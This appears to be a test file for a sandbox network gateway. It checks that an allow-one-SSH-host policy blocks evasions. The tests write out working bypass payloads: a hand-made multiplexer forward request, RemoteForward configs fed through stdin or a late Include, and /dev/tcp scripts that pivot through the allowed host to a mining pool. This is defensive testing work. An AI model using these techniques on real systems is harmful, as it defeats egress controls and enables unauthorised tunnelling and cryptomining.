"""SSH allowed to ONE host (issue 11, "what still gets through"): what the policy means
and where it is enforced.

An entry ``{domain: relay.allowed.lab.test, protocol: ssh}`` allows a shell or a command
on that host — no port forwarding, no multiplexing master (its control socket takes
forward requests later from any process), no remote command that dials out by itself
(the allowed host as a pivot to a destination the sandbox may not reach). Each attack of
the adversarial run is tried from inside a real session, measured at the far end (the
lab sshd's sessions, a forward's listening port, the pool's byte log) and checked to be
recorded with a verdict charged to its call. The ssh client is judged at its exec and
again when its connection reaches the gateway, which waits for that verdict.
"""

from __future__ import annotations

from collections.abc import Callable

from bastion import Session
from bastion.events import Action, EventKind
from bastion.lab import Lab

from .test_egress import RELAY, SSH_OPTS, _forward_listening, _trusted_key, policy

STOP = (Action.DENY, Action.CUT, Action.KILL, Action.TERMINATE)
SSH_ALLOWED = {"domain": RELAY, "port": 22, "protocol": "ssh"}

MUX_FORWARD = r"""
import socket, struct, sys, time
def pack_str(b): return struct.pack(">I", len(b)) + b
def msg(payload): return struct.pack(">I", len(payload)) + payload
try:
    s = socket.socket(socket.AF_UNIX); s.connect("/tmp/cm")
    s.recv(4096)                                   # the master's hello
    s.sendall(msg(struct.pack(">II", 1, 4)))       # MUX_MSG_HELLO, version 4
    # MUX_C_OPEN_FWD, request 1, remote forward: relay:9000 -> sandbox localhost:22
    s.sendall(msg(struct.pack(">III", 0x10000006, 1, 2) + pack_str(b"0.0.0.0")
                  + struct.pack(">I", 9000) + pack_str(b"localhost") + struct.pack(">I", 22)))
    print("mux reply", s.recv(4096))
except OSError as exc:
    print("mux failed", type(exc).__name__)
"""


DIAL_SCRIPT = ("exec 3<>/dev/tcp/203.0.113.33/3333\n"
               "printf '{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n' >&3\n"
               "head -c 100 <&3\n")


def _quick_verdicts(session: Session, rule: str) -> list:
    return [v for v in session.verdicts if v.rule_id == rule]


def _verdicts(session: Session, rule: str, call: str) -> list:
    from tests.conftest import wait_for

    return wait_for(lambda: [v for v in session.verdicts
                             if v.rule_id == rule and v.call_id == call])


def test_allowed_ssh_still_works(lab: Lab, make_session: Callable[..., Session]) -> None:
    """The positive control: a plain command over the allowed SSH reaches a shell."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    sessions = lab.shell_sessions()
    r = session.exec(f"timeout 10 ssh {SSH_OPTS} root@{RELAY} 'echo REMOTE-OK'",
                     call_id="plain")
    assert "REMOTE-OK" in r.stdout, r.stdout + r.stderr
    assert lab.shell_sessions() > sessions
    assert not [v for v in session.verdicts if v.rule_id.startswith("tunnels.")]


def test_a_multiplexing_master_and_a_hand_made_forward_request(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    """``ssh -M -S /tmp/cm -f host 'sleep 40'``, then a forward asked for by hand on the
    control socket (no ssh exec, no connection): the master is the capability."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/mux.py", MUX_FORWARD)
    connections = lab.sshd_connections()
    r = session.exec(f"timeout 10 ssh {SSH_OPTS} -M -S /tmp/cm -f root@{RELAY} 'sleep 40'; "
                     "python3 /workspace/mux.py; echo rc=$?", call_id="mux")
    assert "mux reply" not in r.stdout, r.stdout
    assert not _forward_listening(lab)
    assert lab.sshd_connections() == connections
    found = _verdicts(session, "tunnels.ssh_forward_exec", "mux")
    assert found and "ssh_control_master" in found[0].message


def test_config_on_stdin_with_a_remote_forward(lab: Lab,
                                               make_session: Callable[..., Session]) -> None:
    """``ssh -F /dev/stdin … < cfg`` (a file: read as ssh reads it) and ``cat cfg | ssh
    -F /dev/stdin`` (a pipe: unjudgeable, so refused)."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/cfg",
                       f"Host relay\n  HostName {RELAY}\n  User root\n  IdentityFile /workspace/id\n"
                       "  RemoteForward 9000 localhost:22\n  StrictHostKeyChecking no\n"
                       "  UserKnownHostsFile /dev/null\n  BatchMode yes\n")
    connections = lab.sshd_connections()
    for call, how in (("file", "timeout 8 ssh -N -F /dev/stdin relay < /workspace/cfg"),
                      ("pipe", "cat /workspace/cfg | timeout 8 ssh -N -F /dev/stdin relay")):
        session.exec(f"{how}; echo rc=$?", call_id=call)
        assert not _forward_listening(lab)
        found = _verdicts(session, "tunnels.ssh_forward_exec", call)
        assert found, call
        assert ("ssh_forward_remote" if call == "file" else "ssh_config_unreadable") \
            in found[0].message
    assert lab.sshd_connections() == connections


LATE_INCLUDE = r"""
import subprocess, sys, time
proc = subprocess.Popen(["ssh", "-F", "/workspace/notes.txt", "-N", "relay"])
time.sleep(0.05)
with open("/workspace/late.conf", "w") as f:
    f.write("  RemoteForward 9000 localhost:22\n")
try:
    proc.wait(timeout=6)
except subprocess.TimeoutExpired:
    proc.kill()
print("ssh rc", proc.returncode)
"""


def test_an_include_written_after_exec(lab: Lab, make_session: Callable[..., Session]) -> None:
    """The Include target appears 50 ms after the exec: nothing to see at exec; when the
    connection reaches the gateway, ssh has read its config and so has bastion. (A
    ``Match exec`` that sleeps holds ssh's config parsing until the file is there, so
    ssh surely reads the forward: the race is won by the attacker every time.)"""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/notes.txt",
                       f"Host relay\n  HostName {RELAY}\n  User root\n  IdentityFile /workspace/id\n"
                       "  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n"
                       "  BatchMode yes\nMatch exec \"sleep 0.5\"\n"
                       "  Include /workspace/late.conf\n")
    session.write_file("/workspace/late.py", LATE_INCLUDE)
    session.exec("python3 /workspace/late.py", call_id="late")
    assert not _forward_listening(lab)
    found = _verdicts(session, "tunnels.ssh_forward_exec", "late")
    assert found and "ssh_forward_remote" in found[0].message
    # judged on the connection the gateway was waiting on (a stopping action: never
    # dialled), unless the exec's verdict ended ssh before it could dial at all
    connects = {e.id for e in session.events if e.kind is EventKind.NET_CONNECT
                and e.get("net.dst_port") == 22}
    on_connect = [v for v in found if connects & set(v.event_ids)]
    assert not connects or (on_connect and on_connect[0].action in STOP)


REMOTE_DIAL = r"""
import json, subprocess
stratum = json.dumps({"id": 1, "method": "mining.subscribe", "params": ["x"]})
remote = "exec 3<>/dev/tcp/203.0.113.33/3333; printf '%s\\n' >&3; head -c 200 <&3" % stratum
opts = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes " \
       "-o ConnectTimeout=3 -i /workspace/id".split()
r = subprocess.run(["ssh", *opts, "root@relay.allowed.lab.test", remote],
                   capture_output=True, timeout=10)
print("remote said", r.stdout[:80])
"""


def test_a_remote_command_that_dials_the_pool(lab: Lab,
                                              make_session: Callable[..., Session]) -> None:
    """``ssh host 'exec 3<>/dev/tcp/POOL/3333; printf <stratum> >&3'`` from Python (no
    shell command line to analyse): the allowed host as a pivot to the pool."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/dial.py", REMOTE_DIAL)
    pool, sessions = len(lab.pool_bytes()), lab.shell_sessions()
    r = session.exec("python3 /workspace/dial.py", call_id="pivot")
    assert "mining" not in r.stdout and "result" not in r.stdout, r.stdout
    assert len(lab.pool_bytes()) == pool
    assert lab.shell_sessions() == sessions
    found = _verdicts(session, "tunnels.ssh_remote_egress", "pivot")
    assert found and "devtcp" in found[0].message


def test_a_script_on_stdin_that_dials_the_pool(lab: Lab,
                                               make_session: Callable[..., Session]) -> None:
    """``ssh host < dial.sh`` and ``cat dial.sh | ssh host bash``: no remote command on
    the command line; the remote shell runs what comes on stdin. A file is read; a pipe
    is copied with tee(2) (ssh still gets every byte). Either way it is the same act as a
    remote command that dials out, and the same verdict: refused, nothing reaches the
    pool, no shell comes up, charged to its call."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/dial.sh", DIAL_SCRIPT)
    ssh = f"timeout 10 ssh {SSH_OPTS} root@{RELAY}"
    for call, command in (("stdin-file", f"{ssh} < /workspace/dial.sh"),
                          ("stdin-pipe", f"cat /workspace/dial.sh | {ssh} bash")):
        pool, sessions = len(lab.pool_bytes()), lab.shell_sessions()
        session.exec(f"{command}; echo rc=$?", call_id=call)
        assert len(lab.pool_bytes()) == pool, call
        assert lab.shell_sessions() == sessions, call
        found = _verdicts(session, "tunnels.ssh_remote_egress", call)
        assert found and "stdin script: devtcp" in found[0].message, call
        assert found[0].severity.name == "HIGH"
    assert not _quick_verdicts(session, "tunnels.ssh_remote_stdin")


def test_a_script_still_being_written_into_the_pipe(
        lab: Lab, make_session: Callable[..., Session]) -> None:
    """A writer that is still writing when ssh connects (``(sleep 6; cat dial.sh) | ssh
    host bash``): what will come cannot be read yet. Reported at the connect as
    ``tunnels.ssh_remote_stdin`` (medium), charged to its call — the documented limit;
    a script already in the pipe is judged (test above)."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/dial.sh", DIAL_SCRIPT)
    # the writer starts writing only once ssh's connection is up (seen in the session's
    # own /proc/net/tcp: remote port 22, established), however slow the machine
    writer = ("(while ! grep -q ':0016 01 ' /proc/net/tcp; do sleep 0.1; done; sleep 1; "
              "cat /workspace/dial.sh)")
    session.exec(f"{writer} | timeout 60 ssh {SSH_OPTS} root@{RELAY} bash; echo rc=$?",
                 call_id="drip", timeout=120)
    reported = _verdicts(session, "tunnels.ssh_remote_stdin", "drip")
    assert reported and reported[0].severity.name == "MEDIUM"


def test_an_honest_script_through_a_pipe_runs(lab: Lab,
                                              make_session: Callable[..., Session]) -> None:
    """The positive control: ``cat setup.sh | ssh host bash`` whose script dials nothing
    runs on the allowed host, with no tunnel verdict and no report."""
    session = make_session(policy(SSH_ALLOWED), lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/setup.sh", "echo PROVISIONED-$((6*7))\nuname -s\n")
    r = session.exec(f"cat /workspace/setup.sh | timeout 60 ssh {SSH_OPTS} root@{RELAY} bash",
                     call_id="provision", timeout=120)
    assert "PROVISIONED-42" in r.stdout, r.stdout + r.stderr
    assert not [v for v in session.verdicts if v.rule_id.startswith("tunnels.")]
